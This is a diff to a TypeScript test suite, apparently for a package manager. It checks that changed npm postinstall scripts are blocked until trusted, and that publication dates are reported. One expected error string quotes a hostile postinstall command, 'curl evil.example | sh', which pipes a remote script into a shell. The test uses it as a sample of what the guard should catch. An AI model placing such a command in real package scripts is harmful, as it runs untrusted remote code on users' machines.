@@ -215,6 +215,7 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
         version: number,
         files: { "index.js": "" },
         manifest: { scripts: { postinstall } },
+        ...(number === "1.0.2" && { time: "2021-03-04T05:06:07.000Z" }),
       });
       const install = async (number: string, env = {}) => {
         remove("updated");
@@ -239,12 +240,14 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
         expect((await install(number)).status).toBe(0);
         expect(ran()).toBe(true);
       }
+      const published = "the registry published updated 1.0.2 on 2021-03-04 (";
       const stopped = await install("1.0.2");
       expect([stopped.status, ran()]).toEqual([1, false]);
       expect(stopped.stderr).toContain(
         "error: install scripts of updated have changed from 1.0.0 to 1.0.2, so they were not run\n" +
           "- postinstall: touch ran\n+ postinstall: curl evil.example | sh; touch ran\nhint: ",
       );
+      expect(stopped.stderr).toContain(`\n${published}`);
       const asked = await run(["trust"], { XDG_STATE_HOME: state });
       expect([asked.status, asked.stderr]).toEqual([
         1,
@@ -252,6 +255,9 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
           "install scripts of updated have changed from 1.0.0 to 1.0.2; - postinstall",
         ) as string,
       ]);
+      expect(asked.stderr).toContain(`; ${published}`);
+      // ~/.npmrc has a token for another registry.
+      expect(registry.credentials.join("")).toBe("");
       // An earlier version, whose scripts are known.
       expect([(await install("1.0.0")).status, ran()]).toEqual([0, true]);
       const other = await install("1.0.3");
@@ -260,8 +266,13 @@ describe.skipIf(process.platform !== "linux")("install scripts", () => {
       expect([(await install("1.0.3", { RT_TRUST: hash })).status, ran()]).toEqual([0, true]);
       expect([(await install("1.0.3")).status, ran()]).toEqual([0, true]);
       await install("1.0.2");
-      const env = cleanEnvironment({ HOME: project.join("home"), XDG_STATE_HOME: state });
+      const env = cleanEnvironment({
+        HOME: project.join("home"),
+        XDG_STATE_HOME: state,
+        BUN_CONFIG_REGISTRY: "http://127.0.0.1:9/",
+      });
       await using terminal = startOnTerminal([RT, "trust"], env, { cwd: project.join("shop") });
+      await terminal.awaitOutput("the registry does not say when updated 1.0.2 was published");
       await terminal.awaitOutput("Allow it? [y/N]");
       terminal.type("y\r");
       await terminal.awaitOutput("allowed: install scripts of updated 1.0.2");
